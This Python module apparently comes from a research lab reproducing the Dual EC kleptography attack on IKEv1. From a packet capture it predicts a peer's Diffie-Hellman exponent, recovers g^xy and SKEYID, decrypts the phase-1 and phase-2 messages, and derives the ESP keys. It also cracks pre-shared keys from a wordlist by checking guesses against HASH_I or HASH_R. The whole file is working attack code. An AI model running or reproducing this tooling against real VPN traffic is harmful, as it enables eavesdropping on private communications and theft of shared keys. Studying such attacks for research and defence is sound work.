"""The passive IKEv1 attack on one ISAKMP SA: g^xy from the predicted exponent, then SKEYID.

What g^xy unlocks depends on the phase-1 authentication (RFC 2409 §5; CCS16 §5.6):
signatures — everything (SKEYID = prf(Ni|Nr, g^xy)); pre-shared key — everything
once the PSK is known or cracked (:mod:`kleptolab.attack.psk_crack`); public-key
encryption — nothing (the nonces travel RSA-encrypted).  Every encrypted
message is then decrypted in capture order with CBC IV chaining
(:class:`~kleptolab.ike.v1.crypto.Ikev1Cipher`), and Quick Mode yields the ESP
keys (:mod:`kleptolab.attack.ikev1_quick`).  Retransmitted copies (same
message ID, same bytes, wherever they fall in the capture) are counted apart
and never touch the IV chains: a late copy of MM5 must not become "the last
phase-1 block" that every phase-2 IV starts from (RFC 2409 Appendix B).
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import rsa

from kleptolab.attack.errors import AttackFailure
from kleptolab.attack.ikev1_quick import Opened, quick_mode_sas
from kleptolab.attack.outputs import EspSaRow, Ikev1Row
from kleptolab.attack.prng_walk import DhMatch, PrngWalker
from kleptolab.attack.psk_crack import PskContext, crack_psk, psk_keys
from kleptolab.capture import IkePacket
from kleptolab.crypto.algorithms import Encr, Prf
from kleptolab.ike.dh import DhGroup, group_by_number
from kleptolab.ike.v1 import keys as kdf
from kleptolab.ike.v1.attributes import attribute_map
from kleptolab.ike.v1.auth import AuthenticationError, rsa_verify
from kleptolab.ike.v1.constants import P1_ENCR, P1_HASH, Exchange, P1Attr
from kleptolab.ike.v1.crypto import Ikev1Cipher
from kleptolab.ike.v1.message import PayloadChain, parse_message
from kleptolab.ike.v1.payloads import (
    CertPayload,
    HashPayload,
    IdPayload,
    KePayload,
    NoncePayload,
    SaPayload,
    SigPayload,
    TransformPayload,
)
from kleptolab.ike.wire import WireError

__all__ = ["PKE_REASON", "Ikev1Handshake", "Ikev1Outcome", "Phase1Suite", "attack_ikev1", "parse_ikev1"]

AUTH_NAMES = {
    1: "pre-shared key", 2: "DSS signatures", 3: "RSA signatures", 4: "RSA encryption",
    5: "revised RSA encryption", 65001: "XAUTH + pre-shared key", 65002: "XAUTH + pre-shared key",
    65003: "XAUTH + DSS signatures", 65004: "XAUTH + DSS signatures", 65005: "XAUTH + RSA signatures",
    65006: "XAUTH + RSA signatures", 65007: "XAUTH + RSA encryption", 65008: "XAUTH + RSA encryption",
    65009: "XAUTH + revised RSA encryption", 65010: "XAUTH + revised RSA encryption",
}
PSK_METHODS = frozenset({1, 65001, 65002})
SIG_METHODS = frozenset({2, 3, 65003, 65004, 65005, 65006})
PKE_REASON = (
    "public-key encryption authentication ({name}): the nonces travel encrypted under the peers' "
    "RSA keys and SKEYID = prf(hash(Ni_b | Nr_b), CKY-I | CKY-R) does not involve g^xy, "
    "so the Dual EC attack cannot reach the keys (RFC 2409 §5.2; CCS16 §5.6) — not attackable"
)
NEED_PSK = ("pre-shared key authentication: g^xy recovered, but SKEYID = prf(PSK, Ni_b | Nr_b) "
            "needs the PSK — give --psk or --psk-wordlist")


@dataclass(frozen=True)
class Phase1Suite:
    """The negotiated phase-1 transform."""

    encr: Encr
    key_size: int
    prf: Prf
    group: int
    auth: int

    @property
    def auth_name(self) -> str:
        return AUTH_NAMES.get(self.auth, f"method {self.auth}")

    def describe(self) -> dict[str, object]:
        return {"encr": self.encr.name, "key_bits": 8 * self.key_size, "hash": self.prf.name,
                "dh_group": self.group, "auth": self.auth_name}


def suite_of(t: TransformPayload) -> Phase1Suite:
    """Decode the responder's chosen phase-1 transform (``AttackFailure`` if unsupported)."""
    a = attribute_map(t.attributes)
    encr, prf = P1_ENCR.get(a.get(P1Attr.ENCRYPTION, 0)), P1_HASH.get(a.get(P1Attr.HASH, 0))
    if encr is None or prf is None or P1Attr.PRF in a:
        raise AttackFailure(f"phase-1 transform not supported: attributes {dict(a)}")
    bits = a.get(P1Attr.KEY_LENGTH)
    key_size = bits // 8 if bits else encr.key_sizes[0]
    return Phase1Suite(encr, key_size, prf, a.get(P1Attr.GROUP_DESCRIPTION, 0), a.get(P1Attr.AUTH_METHOD, 0))


@dataclass
class Ikev1Handshake:
    """The cleartext facts of one IKEv1 phase 1 and the encrypted messages that follow."""

    sid: str
    cky_i: bytes
    cky_r: bytes
    initiator: str
    responder: str
    aggressive: bool
    suite: Phase1Suite
    group: DhGroup
    sai_b: bytes
    g_xi: bytes
    g_xr: bytes
    ni: bytes
    nr: bytes
    nr_order: int
    idir_b: bytes = b""
    hash_r: bytes = b""
    am2: PayloadChain | None = None
    encrypted: list[IkePacket] = field(default_factory=list)


@dataclass
class _Side:
    """What one peer sent in the clear during phase 1."""

    sa: SaPayload | None = None
    sa_b: bytes = b""
    ke: bytes = b""
    nonce: bytes = b""
    order: int = 0
    peer: str = ""
    chain: PayloadChain | None = None


def _phase1_chains(packets: list[IkePacket]) -> list[tuple[IkePacket, PayloadChain]]:
    out = []
    for p in packets:
        if p.header.message_id != 0 or p.header.exchange_type not in (Exchange.MAIN_MODE, Exchange.AGGRESSIVE):
            continue
        try:
            chain = parse_message(p.message).chain
        except WireError:
            continue
        if chain is not None:
            out.append((p, chain))
    return out


def parse_ikev1(sid: str, packets: list[IkePacket]) -> Ikev1Handshake:
    """Collect SA, KE and nonces of phase 1; ``AttackFailure`` when they are missing or PKE."""
    if not packets:
        raise AttackFailure("no IKEv1 messages")
    initiator = packets[0].datagram.src
    # the sender's endpoint, not its address: both peers may share one (e.g. 127.0.0.1)
    initiator_end = (initiator, packets[0].datagram.sport)
    sides = {True: _Side(), False: _Side()}
    aggressive = False
    for p, chain in _phase1_chains(packets):
        aggressive |= p.header.exchange_type == Exchange.AGGRESSIVE
        side = sides[(p.datagram.src, p.datagram.sport) == initiator_end]
        sa, ke, nonce = chain.first(SaPayload), chain.first(KePayload), chain.first(NoncePayload)
        if sa is not None and side.sa is None:
            side.sa, side.sa_b = sa, chain.body_of(SaPayload) or b""
        if ke is not None and nonce is not None and not side.ke:
            side.ke, side.nonce, side.order, side.peer, side.chain = (
                ke.data, nonce.data, p.datagram.index, p.datagram.dst, chain)
    i, r = sides[True], sides[False]
    if i.sa is None or r.sa is None:
        raise AttackFailure("the phase-1 SA exchange (MM1/MM2 or AM1/AM2) is not in the capture")
    if not r.sa.proposals or not r.sa.proposals[0].transforms:
        raise AttackFailure("the responder's SA payload holds no transform")
    suite = suite_of(r.sa.proposals[0].transforms[0])
    if suite.auth not in PSK_METHODS | SIG_METHODS:
        raise AttackFailure(PKE_REASON.format(name=suite.auth_name))
    if not i.ke or not r.ke:
        raise AttackFailure("the KE/Nonce exchange (MM3/MM4 or AM1/AM2) is not in the capture")
    try:
        group = group_by_number(suite.group)
    except ValueError as exc:
        raise AttackFailure(str(exc)) from None
    cky_r = next((p.spi_r for p in packets if any(p.spi_r)), bytes(8))
    h = Ikev1Handshake(
        sid, packets[0].spi_i, cky_r, initiator, i.peer, aggressive, suite, group, i.sa_b,
        i.ke, r.ke, i.nonce, r.nonce, r.order, encrypted=[p for p in packets if p.header.flags & 1],
    )
    if aggressive and r.chain is not None:
        h.am2 = r.chain
        h.idir_b = r.chain.body_of(IdPayload) or b""
        digest = r.chain.first(HashPayload)
        h.hash_r = digest.data if digest is not None else b""
    return h


@dataclass
class Ikev1Outcome:
    """What the attack recovered for one IKEv1 SA."""

    dh: DhMatch | None = None
    keys: kdf.Phase1Keys | None = None
    g_xy: bytes = b""
    row: Ikev1Row | None = None
    esp: list[EspSaRow] = field(default_factory=list)
    decrypted: int = 0
    undecrypted: int = 0
    retransmitted: int = 0
    children: list[dict[str, object]] = field(default_factory=list)
    child_nonces: list[tuple[bytes, int]] = field(default_factory=list)
    psk: dict[str, object] | None = None
    psk_value: bytes = b""
    auth_check: str = "not checked"
    failure: str | None = None


def attack_ikev1(
    h: Ikev1Handshake, walker: PrngWalker, psk: bytes | None = None, wordlist: Sequence[bytes] = ()
) -> Ikev1Outcome:
    """Predict a peer's exponent, find SKEYID, decrypt every message, derive the ESP keys."""
    out = Ikev1Outcome()
    out.dh = walker.find_dh(h.group, h.g_xr, prefer=h.sid)
    peer = h.g_xi
    if out.dh is None:  # the gateway may have been the phase-1 initiator (site-to-site)
        out.dh, peer = walker.find_dh(h.group, h.g_xi, prefer=h.sid), h.g_xr
    if out.dh is None:
        out.failure = "no walked PRNG output gives either peer's KE"
        return out
    out.g_xy = h.group.shared_secret(out.dh.private, peer)
    s = h.suite
    if s.auth in PSK_METHODS:
        keys = _psk_phase1(h, out, psk, wordlist)
        if keys is None:
            return out
    else:
        skeyid = kdf.skeyid_sig(s.prf, h.ni, h.nr, out.g_xy)
        keys = kdf.derive_phase1(s.prf, skeyid, out.g_xy, h.cky_i, h.cky_r, h.g_xi, h.g_xr, s.encr, s.key_size)
    out.keys = keys
    out.row = Ikev1Row(h.cky_i, keys.ka)
    cipher = Ikev1Cipher.from_keys(keys, s.encr, s.prf)
    opened: list[Opened] = []
    for p in originals(h.encrypted, out):
        try:
            opened.append(Opened(p, cipher.decrypt(p.message)))
        except (ValueError, WireError):
            out.undecrypted += 1
    out.decrypted = len(opened)
    if s.auth in SIG_METHODS:
        out.auth_check = _check_signature(h, keys, opened)
    quick_mode_sas(h.sid, h.responder, s.prf, keys.skeyid_d, opened, walker, out)
    return out


def originals(packets: Sequence[IkePacket], out: Ikev1Outcome) -> list[IkePacket]:
    """The first copy of each (message ID, message) in capture order; later copies are counted in
    ``out.retransmitted`` (their decryption is the first copy's)."""
    seen: set[tuple[int, bytes]] = set()
    first: list[IkePacket] = []
    for p in packets:
        key = (p.header.message_id, p.message)
        if key in seen:
            out.retransmitted += 1
            continue
        seen.add(key)
        first.append(p)
    return first


def _psk_phase1(
    h: Ikev1Handshake, out: Ikev1Outcome, psk: bytes | None, wordlist: Sequence[bytes]
) -> kdf.Phase1Keys | None:
    s = h.suite
    mm5 = next((p.message for p in h.encrypted if p.datagram.src == h.initiator and p.header.message_id == 0), b"")
    ctx = PskContext(s.prf, s.encr, s.key_size, h.cky_i, h.cky_r, h.g_xi, h.g_xr, h.ni, h.nr, h.sai_b,
                     out.g_xy, h.aggressive, mm5, h.hash_r, h.idir_b)
    what = "HASH_R" if h.aggressive else "HASH_I"
    if psk is not None:
        if not ctx.checkable:
            out.psk, out.auth_check = {"source": "given", "verified": False}, "PSK not checkable"
            skeyid = kdf.skeyid_psk(s.prf, psk, h.ni, h.nr)
            return kdf.derive_phase1(s.prf, skeyid, out.g_xy, h.cky_i, h.cky_r, h.g_xi, h.g_xr, s.encr, s.key_size)
        keys = psk_keys(ctx, psk)
        if keys is None:
            out.failure = f"the given pre-shared key does not verify ({what} mismatch)"
        else:
            out.psk, out.auth_check = {"source": "given", "verified": True}, f"{what} verified"
        return keys
    if not wordlist:
        out.failure = NEED_PSK
        return None
    if not ctx.checkable:
        out.failure = f"cannot crack the PSK: the capture lacks {'AM2' if h.aggressive else 'MM5'}"
        return None
    found = crack_psk(ctx, wordlist)
    if found is None:
        out.failure = f"{NEED_PSK} (none of {len(wordlist)} wordlist entries verifies)"
        return None
    out.psk_value = found.psk
    out.psk = {"source": "cracked", "value": found.psk.decode("utf-8", "backslashreplace"),
               "guesses": found.tried, "verified": True}
    out.auth_check = f"{what} verified"
    return found.keys


def _check_signature(h: Ikev1Handshake, keys: kdf.Phase1Keys, opened: list[Opened]) -> str:
    """Verify a signature with the certificate it came with: SIG_I of MM5, or SIG_R of AM2."""
    s = h.suite
    if h.aggressive:
        chain, by_initiator = h.am2, False
    else:
        first = next((o for o in opened if o.packet.header.message_id == 0), None)
        chain, by_initiator = (first.message.chain if first else None), True
    if chain is None:
        return "not checked (no signed message)"
    cert, sig, id_b = chain.first(CertPayload), chain.first(SigPayload), chain.body_of(IdPayload)
    if cert is None or sig is None or id_b is None:
        return "not checked (no CERT/SIG payload)"
    args = (s.prf, keys.skeyid, h.g_xi, h.g_xr, h.cky_i, h.cky_r, h.sai_b, id_b)
    digest = kdf.hash_i(*args) if by_initiator else kdf.hash_r(*args)
    try:
        key = x509.load_der_x509_certificate(cert.data).public_key()
        if not isinstance(key, rsa.RSAPublicKey):
            return "not checked (not an RSA certificate)"
        rsa_verify(key, sig.data, digest)
    except (ValueError, AuthenticationError) as exc:
        return f"signature does not verify: {exc}"
    return f"SIG_{'I' if by_initiator else 'R'} verified with the sender's certificate"
